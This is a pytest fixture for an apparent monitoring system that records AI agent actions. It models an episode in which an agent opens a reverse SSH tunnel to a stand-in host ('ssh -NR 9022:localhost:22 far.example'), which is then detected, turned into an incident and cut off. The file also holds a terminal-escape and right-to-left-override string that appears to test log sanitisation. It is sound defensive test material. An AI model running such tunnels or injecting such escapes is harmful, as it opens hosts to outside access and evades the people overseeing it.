"""An episode's records as the ledger would hold them: a reverse tunnel of call 2, seen, refused in part, and cut."""

from __future__ import annotations

from typing import Any

import pytest

from vigiles.incidents.correlate import Correlator
from vigiles.model.act import Act, ProcessSpec
from vigiles.model.attribution import Attribution
from vigiles.model.coordinates import Coordinates
from vigiles.model.episode import EpisodeEnded, EpisodeOpened
from vigiles.model.finding import Finding
from vigiles.model.observation.flow import Flow
from vigiles.model.observation.process import ProcessExit, ProcessStart
from vigiles.model.response import Response
from vigiles.model.result import Result
from vigiles.model.stamp import Stamp
from vigiles.model.union import Recorded
from vigiles.model.verdict import Verdict

START = 1_700_000_000_000_000
HOSTILE = "\x1b[2J\u202e[bold]x[/bold]"


class Maker:
    def __init__(self) -> None:
        self.us = 0
        self.count = 0

    def head(self, prefix: str, call: int | None = 2) -> dict[str, Any]:
        self.us += 10_000
        self.count += 1
        return {
            "id": f"{prefix}-{self.count}",
            "at": Stamp(wall_us=START + self.us, mono_us=self.us, boot="b"),
            "coordinates": Coordinates(run="run-1", episode="ep-1", turn=3, call=call, task="fix", model_version="m-7"),
        }

    def seen(self, call: int | None = 2) -> dict[str, Any]:
        return {
            **self.head("obs", call),
            "sensor": "notifier",
            "attribution": Attribution(grade="exact" if call else "none", call=call, methods=["listener"] if call else []),
        }

    def finding(self, rule: str = "reverse_tunnel.forward_argv", call: int | None = 2, **more: Any) -> Finding:
        head = self.head("fnd", call)
        fields = {
            "detector": rule.partition(".")[0],
            "rule": rule,
            "author": "Vigiles",
            "techniques": ["T1572"],
            "severity": "high",
            "summary": f"ssh asked to forward {HOSTILE}",
            "cause": "egress:2:far.example:22",
            "attribution": Attribution(grade="exact" if call else "none", call=call, methods=["listener"] if call else []),
            "evidence": [],
            "occurred_us": head["at"].wall_us - 5_000,
            **more,
        }
        return Finding(**head, **fields)

    def response(self, incident: str | None, kind: str = "cut_egress", **more: Any) -> Response:
        fields = {"act": "act-9", "target": "call 2", "outcome": "done", "took_us": 12_000, **more}
        return Response(**self.head("rsp", None), kind=kind, incident=incident, **fields)  # type: ignore[arg-type]  # a literal


@pytest.fixture
def make() -> Maker:
    return Maker()


@pytest.fixture
def episode(make: Maker) -> list[tuple[int, Recorded]]:
    act = Act(
        **make.head("act"),
        principal="agent-a",
        kind="process",
        tool="bash",
        process=ProcessSpec(argv=["bash", "-c", f"ssh -NR 9022:localhost:22 far.example # {HOSTILE}"]),
    )
    flow = {"flow": "f1", "via": "transparent", "host": "far.example", "port": 22, "protocol": "ssh"}
    records: list[Recorded] = [
        EpisodeOpened(**make.head("rec", None), principal="agent-a", profile="observe", ruleset="ab" * 32, tier="U"),
        act,
        Verdict(
            **make.head("ver"), act=act.id, decision="allow", reason="allowed", ruleset="ab" * 32, rules=["base.process"]
        ),
        ProcessStart(**make.seen(), pid=10, ppid=1, via="launch", exe="/bin/bash", argv=["bash", "-c", HOSTILE]),
        ProcessStart(
            **make.seen(), pid=11, ppid=10, via="exec", exe="/usr/bin/ssh", argv=["ssh", "-NR", "9022:localhost:22"]
        ),
        Flow(**make.seen(), phase="open", **flow),
        Flow(**make.seen(), phase="update", bytes_out=3000, bytes_in=2000, duration_us=1_500_000, **flow),
        Result(**make.head("res"), act=act.id, outcome="performed", exit_code=0, wall_us=900_000, background=1),
    ]
    correlator = Correlator()
    first = make.finding(evidence=[records[4].id])
    second = make.finding("reverse_tunnel.forward_request", evidence=[records[6].id, records[5].id, "obs-erased"])
    for finding in (first, second):
        incident = correlator.feed(finding)
        assert incident is not None
        records += [finding, incident]
    response = make.response(incident.incident)
    after = correlator.responded(response)
    assert after is not None
    records += [response, after, ProcessExit(**make.seen(), pid=11)]
    records.append(EpisodeEnded(**make.head("rec", None), reason="response", leftover=1))
    return list(enumerate(records, 100))
